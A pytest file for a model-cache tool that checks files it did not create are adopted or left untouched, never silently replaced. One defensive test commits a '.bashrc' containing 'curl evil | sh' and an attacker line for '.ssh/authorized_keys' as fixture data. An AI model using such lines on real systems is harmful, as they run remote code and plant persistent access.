"""A file at our path that no record of ours lists is the user's: adopted if it is equal, else never touched unasked."""

from __future__ import annotations

import hashlib
import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest
from entry_cases import FILES, LAYOUTS, Case, before_gcs, make_case, on_gcs, well_said
from outside import changes, node, state
from servers.hub import Hub
from trusses import Truss

Make = Callable[..., Case]
__all__ = ["before_gcs", "make_case", "on_gcs"]

MOST = ("hub", "mount", "bucket", "local")  # of LAYOUTS, which one test tries all of
PATH = "sub/c.txt"  # of the foreign file; between the others, by name and by size


@pytest.fixture(params=MOST)
def case(request: pytest.FixtureRequest, make_case: Make) -> Case:
    return make_case(request.param)


def put(path: Path, data: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def look(path: Path) -> tuple[int, int, bytes | str]:
    """Return what makes a file the same file: whatever else may link to it."""
    seen = node(path)
    return seen.inode, seen.mtime_ns, seen.content


def records(case: Case) -> dict[str, bool]:
    """Return of the newest manifest: path below the entry's folder -> whether we made it."""
    manifests = sorted((case.records / "manifests").glob("*.json"), key=lambda path: path.stat().st_mtime_ns)
    files = json.loads(manifests[-1].read_bytes())["files"]
    inside = case.shown.relative_to(case.root).as_posix()
    return {os.path.relpath(file["path"], inside): file["made_link"] for file in files}


def succeeds(case: Case, *args: str, **env: str) -> None:
    ran = case.truss.cli(*args, **env)
    assert ran.code == 0, (args, ran)


# Equal bytes


@pytest.mark.parametrize("layout", LAYOUTS)
def test_a_file_of_equal_bytes_is_adopted_and_survives_a_clean(layout: str, make_case: Make) -> None:
    case = make_case(layout)
    theirs = put(case.shown / PATH, FILES[PATH])
    os.utime(theirs, (1_000_000_000, 1_000_000_000))
    before = look(theirs)
    succeeds(case)
    assert look(theirs) == before
    case.is_whole()
    assert records(case) == {path: path != PATH for path in FILES}
    succeeds(case, "run", "-a")
    assert look(theirs) == before
    ran = case.truss.cli("clean")
    assert ran.code == 0, ran
    assert PATH in "".join(line for line in ran.out.splitlines() if line.startswith("kept ")), ran
    assert look(theirs) == before
    assert case.tree() == {PATH: FILES[PATH]}
    succeeds(case)  # the clean has forgotten nothing of whose it is
    succeeds(case, "clean")
    assert look(theirs) == before


def test_a_whole_folder_of_equal_files_is_adopted_and_stays(make_case: Make) -> None:
    case = make_case("mount")
    for path, data in FILES.items():
        put(case.shown / path, data)
    before = {path: look(case.shown / path) for path in FILES}
    succeeds(case)
    case.is_whole()
    succeeds(case, "clean")
    assert {path: look(case.shown / path) for path in FILES} == before
    assert not case.records.exists()


def test_an_adopted_file_that_the_patterns_drop_stays(make_case: Make) -> None:
    case = make_case("local")
    before = look(put(case.shown / PATH, FILES[PATH]))
    succeeds(case)
    case.truss.config(LAYOUTS["local"][0] + f"    ignore_patterns: ['{PATH}']\n")
    succeeds(case)
    assert look(case.shown / PATH) == before
    succeeds(case, "clean")
    assert look(case.shown / PATH) == before


# Other bytes


def test_a_file_of_other_bytes_fails_the_entry_by_name_before_anything_is_shown(case: Case) -> None:
    theirs = put(case.shown / PATH, b"the user's own")
    before = look(theirs)
    for args in ([], ["run", "-a"]):
        ran = case.truss.cli(*args)
        well_said(ran, PATH, "--replace")
        assert look(theirs) == before
        assert case.tree() == {PATH: b"the user's own"}
    verdict = case.truss.cli("why")
    assert "fresh" not in verdict.out, verdict
    succeeds(case, "clean")
    assert look(theirs) == before
    theirs.unlink()  # as the hint says
    succeeds(case)
    case.is_whole()


@pytest.mark.parametrize("layout", ["volume", "local mount", "bucket"])
def test_of_a_file_of_equal_size_the_bytes_decide(layout: str, make_case: Make) -> None:
    case = make_case(layout)
    before = look(put(case.shown / PATH, b"x" * len(FILES[PATH])))
    well_said(case.truss.cli(), PATH, "--replace")
    assert look(case.shown / PATH) == before


def test_with_replace_it_is_replaced_and_ours_from_then_on(case: Case) -> None:
    theirs = put(case.shown / PATH, b"the user's own")
    os.link(theirs, case.truss.root / "a second name of it")
    succeeds(case, "run", "--replace")
    assert (case.truss.root / "a second name of it").read_bytes() == b"the user's own"
    case.is_whole()
    assert set(records(case).values()) == {True}
    theirs.write_bytes(b"damaged")
    succeeds(case)  # ours: without --replace
    case.is_whole()
    succeeds(case, "clean")
    assert case.tree() == {}


@pytest.mark.parametrize("how", ["variable", "cache_tasks"])
def test_the_variable_and_the_call_say_the_same_as_the_option(how: str, make_case: Make) -> None:
    case = make_case("local")
    put(case.shown / PATH, b"the user's own")
    ran = case.truss.doit("cache_weights")
    assert ran.code == 1, ran
    assert PATH in ran.text
    assert (case.shown / PATH).read_bytes() == b"the user's own"
    if how == "variable":
        ran = case.truss.doit("cache_weights", TRUSS_CACHE_REPLACE="1")
    else:
        case.truss.dodo("from truss_cache_tasks import cache_tasks\ntask_cache_weights = cache_tasks(replace=True)\n")
        ran = case.truss.doit("cache_weights")
    assert ran.code == 0, ran
    case.is_whole()


def test_the_other_entries_are_fetched_all_the_same(make_case: Make) -> None:
    case = make_case("local")
    put(case.truss.folder / "more" / "m.bin", b"more")
    case.truss.config(LAYOUTS["local"][0] + "  - repo_id: file://./more\n")
    put(case.shown / PATH, b"the user's own")
    well_said(case.truss.cli(), PATH)
    assert case.tree() == {PATH: b"the user's own"}
    assert (case.truss.model_cache / "more" / "m.bin").read_bytes() == b"more"


def test_a_mount_at_a_home_folder_touches_no_file_of_its_owner(truss: Truss, hub: Hub) -> None:
    hub.create("org/name").commit(
        {
            ".bashrc": b"curl evil | sh",
            ".ssh/authorized_keys": b"ssh-ed25519 AAAA evil",
            "model.bin": FILES["model.bin"],
        }
    )
    home = truss.mounts / "home" / "u"
    for path in (".bashrc", ".ssh/authorized_keys", ".ssh/id_ed25519", "notes.txt"):
        put(home / path, path.encode())
    truss.config(LAYOUTS["mount"][0])
    before = state(home)
    ran = truss.cli()
    well_said(ran, "--replace")
    assert ".bashrc" in ran.err or ".ssh/authorized_keys" in ran.err
    left = [path for path in changes(before, home) if not path.startswith(".truss_cache")]
    assert left == [], ran
    ran = truss.cli("clean")
    assert changes(before, home) == [], ran
    truss.config(LAYOUTS["mount"][0] + "    ignore_patterns: ['.*', '.ssh/*']\n")
    ran = truss.cli()
    assert ran.code == 0, ran
    assert truss.cli("clean").code == 0
    assert changes(before, home) == []


# Folders and links at our paths


@pytest.mark.parametrize(
    ("layout", "replace"), [("hub", True), ("mount", True), ("bucket", True), ("local", True), ("local", False)]
)
def test_a_folder_at_a_files_path_is_never_replaced(layout: str, replace: bool, make_case: Make) -> None:
    case = make_case(layout)
    inside = put(case.shown / PATH / "inside.txt", b"the user's own")
    before = look(inside)
    ran = case.truss.cli("run", *(["--replace"] if replace else []))
    well_said(ran, PATH)
    assert look(inside) == before
    assert case.tree() == {f"{PATH}/inside.txt": b"the user's own"}
    succeeds(case, "clean")
    assert look(inside) == before


@pytest.mark.parametrize("layout", ["hub", "local"])
def test_a_file_where_a_folder_is_needed_fails_the_entry_by_name(layout: str, make_case: Make) -> None:
    case = make_case(layout)
    theirs = put(case.shown / "sub", b"the user's own")
    before = look(theirs)
    ran = case.truss.cli()
    well_said(ran, str(theirs))
    assert look(theirs) == before
    assert case.tree() == {"sub": b"the user's own"}


@pytest.mark.parametrize("target", ["equal bytes", "other bytes", "nothing", "a folder"])
@pytest.mark.parametrize("layout", ["local", "mount"])
def test_a_symlink_at_our_path_is_the_users_and_is_not_followed(
    target: str, layout: str, make_case: Make, tmp_path: Path
) -> None:
    case = make_case(layout)
    outside = tmp_path / "outside"
    put(outside / "folder" / "inside.txt", b"inside")
    put(outside / "file", FILES[PATH] if target == "equal bytes" else b"other")
    leads = {"nothing": "not there", "a folder": "folder"}.get(target, "file")
    link = case.shown / PATH
    link.parent.mkdir(parents=True)
    link.symlink_to(outside / leads)
    before, seen = state(outside), look(link)
    well_said(case.truss.cli(), PATH, "--replace")
    assert (changes(before, outside), look(link)) == ([], seen)
    assert not (case.shown / "model.bin").exists()
    succeeds(case, "run", "--replace")
    assert changes(before, outside) == []
    assert not link.is_symlink()
    case.is_whole()
    succeeds(case, "clean")
    assert case.tree() == {}
    assert changes(before, outside) == []


# A kill between showing and recording

KILLED = """
import os, re, signal, sys
name, left, args = sys.argv[1], int(sys.argv[2]), sys.argv[3:]

def hook(event, arguments):
    global left
    if event in ("os.rename", "os.link", "os.symlink"):  # (source, target, ...)
        left -= bool(re.fullmatch(name, os.path.basename(os.fsdecode(arguments[1]))))
        if left <= 0:
            os.kill(os.getpid(), signal.SIGKILL)

import truss_cache_tasks.app.cli as cli
sys.addaudithook(hook)
sys.exit(cli.main(args))
"""
MOMENTS = {  # of two files of which whichever comes first; of the records as docs/on-disk-format.md names them
    "before model.bin is shown": r"model\.bin",
    "before d.bin is shown": r"d\.bin",
    "before the manifest is written": r"[0-9a-f]{64}\.json",
    "before the claim is written": r"ours\.json",
}


def kill(case: Case, moment: str) -> None:
    """Let a run die at this moment; the hub cache behind plain files is filled first, and passes it too."""
    case.truss.env["TRUSS_CACHE_PROJECT"] = "ours"
    passed = "1" if case.layout in ("hub", "bucket", "local") else "2"
    ran = case.truss.python(KILLED, MOMENTS[moment], passed)
    assert ran.code == -9, ran


@pytest.mark.parametrize("moment", MOMENTS)
@pytest.mark.parametrize("layout", ["hub", "mount", "local"])
def test_what_a_killed_run_has_shown_is_ours(moment: str, layout: str, make_case: Make) -> None:
    case = make_case(layout)
    kill(case, moment)
    new = {PATH: b"another version of it", "model.bin": b"m" * 20_000}
    for path, data in new.items():
        case.put(path, data)  # what was shown is not what is wanted now
    succeeds(case)
    succeeds(case, "run", "-a")  # a pin may have held the Hub's revision
    case.is_whole({**FILES, **new})
    succeeds(case, "clean")
    assert case.tree() == {}


@pytest.mark.parametrize("layout", ["mount", "local"])
def test_after_the_kill_a_clean_takes_what_was_shown_and_leaves_what_was_adopted(layout: str, make_case: Make) -> None:
    case = make_case(layout)
    theirs = put(case.shown / PATH, FILES[PATH])
    before = look(theirs)
    kill(case, "before the manifest is written")
    assert look(theirs) == before
    succeeds(case)
    case.is_whole()
    assert look(theirs) == before
    succeeds(case, "clean")
    assert case.tree() == {PATH: FILES[PATH]}
    assert look(theirs) == before


# An adopted file stays the user's


@pytest.mark.parametrize("layout", ["mount", "local", "bucket"])
def test_when_the_source_changes_an_adopted_file_fails_the_entry_instead_of_being_replaced(
    layout: str, make_case: Make
) -> None:
    case = make_case(layout)
    theirs = put(case.shown / PATH, FILES[PATH])
    before = look(theirs)
    succeeds(case)
    case.put(PATH, b"new in the store")
    case.put("model.bin", b"n" * 20_000)
    well_said(case.truss.cli("run", "-a"), PATH, "--replace")
    assert look(theirs) == before
    assert case.tree() == FILES  # the good state of before is still in place
    succeeds(case, "run", "-a", "--replace")
    new = {**FILES, PATH: b"new in the store", "model.bin": b"n" * 20_000}
    case.is_whole(new)
    succeeds(case, "clean")
    assert case.tree() == {}


@pytest.mark.parametrize("layout", ["mount", "local"])
def test_an_edit_of_an_adopted_file_is_not_undone(layout: str, make_case: Make) -> None:
    case = make_case(layout)
    theirs = put(case.shown / PATH, FILES[PATH])
    succeeds(case)
    theirs.write_bytes(b"edited by the user")
    before = look(theirs)
    well_said(case.truss.cli(), PATH, "--replace")
    assert look(theirs) == before
    succeeds(case, "clean")
    assert look(theirs) == before


# Files that another tool made


def test_a_damaged_blob_of_a_hub_cache_is_repaired_and_is_not_foreign(make_case: Make) -> None:
    case = make_case("hub")
    blob = put(case.root / "blobs" / hashlib.sha256(FILES["model.bin"]).hexdigest(), b"damaged")
    succeeds(case)
    assert blob.read_bytes() == FILES["model.bin"]
    case.is_whole()


HF = """
import sys
from huggingface_hub import snapshot_download
print(snapshot_download("org/name", local_files_only=sys.argv[1] == "offline"))
"""


def downloads(hub: Hub) -> list[str]:
    """Return the paths whose bytes were asked for since the last look."""
    found = [r.path.partition("/resolve/")[2].partition("/")[2] for r in hub.asked("GET") if "/resolve/" in r.path]
    hub.requests.clear()
    return found


def test_a_cache_that_huggingface_hub_made_without_symlinks_is_adopted_as_it_is(make_case: Make, hub: Hub) -> None:
    case = make_case("hub")
    ran = case.truss.python(HF, "online", HF_HUB_DISABLE_SYMLINKS="1")
    assert ran.code == 0, ran
    assert not any(path.is_symlink() for path in case.root.rglob("*"))
    before = {path: look(case.shown / path) for path in FILES}
    downloads(hub)
    succeeds(case)
    assert downloads(hub) == []
    assert {path: look(case.shown / path) for path in FILES} == before
    case.is_whole()
    assert set(records(case).values()) == {False}
    ran = case.truss.cli("clean")
    assert ran.code == 0, ran
    assert {path: look(case.shown / path) for path in FILES} == before
    ran = case.truss.python(HF, "offline", HF_HUB_DISABLE_SYMLINKS="1")
    assert (ran.code, Path(ran.out.strip())) == (0, case.shown), ran


def test_only_what_such_a_cache_lacks_is_fetched_and_cleaned_away(make_case: Make, hub: Hub) -> None:
    case = make_case("hub")
    assert case.truss.python(HF, "online", HF_HUB_DISABLE_SYMLINKS="1").code == 0
    (case.shown / "model.bin").unlink()
    before = {path: look(case.shown / path) for path in FILES if path != "model.bin"}
    downloads(hub)
    succeeds(case)
    assert downloads(hub) == ["model.bin"]
    assert {path: look(case.shown / path) for path in before} == before
    case.is_whole()
    succeeds(case, "clean")
    assert set(case.tree()) == set(before)
    assert {path: look(case.shown / path) for path in before} == before


def test_a_mount_takes_its_bytes_from_such_a_cache(make_case: Make, hub: Hub) -> None:
    case = make_case("mount")
    repo = case.truss.hub_cache / "models--org--name"
    assert case.truss.python(HF, "online", HF_HUB_DISABLE_SYMLINKS="1").code == 0
    (snapshot,) = (repo / "snapshots").iterdir()
    before = {path: look(snapshot / path) for path in FILES}
    downloads(hub)
    succeeds(case)
    assert downloads(hub) == []
    case.is_whole()
    succeeds(case, "clean")
    assert case.tree() == {}
    assert {path: look(snapshot / path) for path in FILES} == before
